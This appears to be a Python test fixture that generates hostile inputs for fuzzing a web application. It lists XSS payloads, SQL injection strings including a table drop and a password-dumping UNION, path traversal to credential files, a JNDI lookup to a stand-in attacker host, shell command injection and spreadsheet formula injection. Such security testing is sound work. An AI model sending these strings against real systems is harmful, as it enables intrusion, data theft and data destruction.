"""Texts that people who mean harm type into boxes and addresses."""

from itertools import islice, product

MARK = "zq7"

SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"</textarea><img src=x onerror={MARK}()>",
    f'"><svg/onload={MARK}()>',
    f"' onmouseover='{MARK}()' x='",
    f'" autofocus onfocus="{MARK}()',
    f"javascript:{MARK}()",
    f"<a href=javascript:{MARK}()>{MARK}</a>",
    f"--><{MARK}>",
    f"</title><{MARK}>",
    f"<iframe srcdoc='<{MARK}>'>",
    f"{{{{7*7}}}}{{% load {MARK} %}}<{MARK}>",
    f"\u202e<{MARK}>\u0000",
)

_SEEDS = (
    "' OR '1'='1",
    "'; DROP TABLE account; --",
    '" OR 1=1 --',
    "1) OR (1=1",
    "' UNION SELECT email, password FROM account --",
    "\\' OR 1=1 --",
    "%' AND pg_sleep(5) AND '%'='",
    "$$ OR 1=1 $$",
    "id__gt",
    "-id; SELECT 1",
    "(SELECT version())",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.pdf",
    "{{7*7}}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "; cat /etc/passwd",
    "| id",
    "`id`",
    "*)(uid=*))(|(uid=*",
    '<!--#exec cmd="id"-->',
    "\r\nSet-Cookie: sessionid=stolen",
    "%0d%0aLocation:%20https://evil.example",
    "\ud800",
    "\x00",
    "٣٤٥",
    "1e400",
    "9" * 400,
    "-1",
    "NaN",
    "true",
    "[]",
    "[" * 300,
    "2026-02-30",
    "0000-00-00",
    "9999-12-31T23:59:60Z",
    "2026-11-22T00:00:00+99:00",
    "1~2~3~4",
    "\u202e\u0301" * 50,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
)
_WRAPS = (
    "{}", "'{}", '"{}', "{}'--", "{}%00", "x={}", "({})", "{}\n{}", " {} ", "{}" + "A" * 300,
    "__class__{}", "state__in={}",
)  # fmt: skip


def injections(count: int = 500) -> list[str]:
    """Return this many different texts."""
    return [wrap.replace("{}", seed) for wrap, seed in islice(product(_WRAPS, _SEEDS), count)]
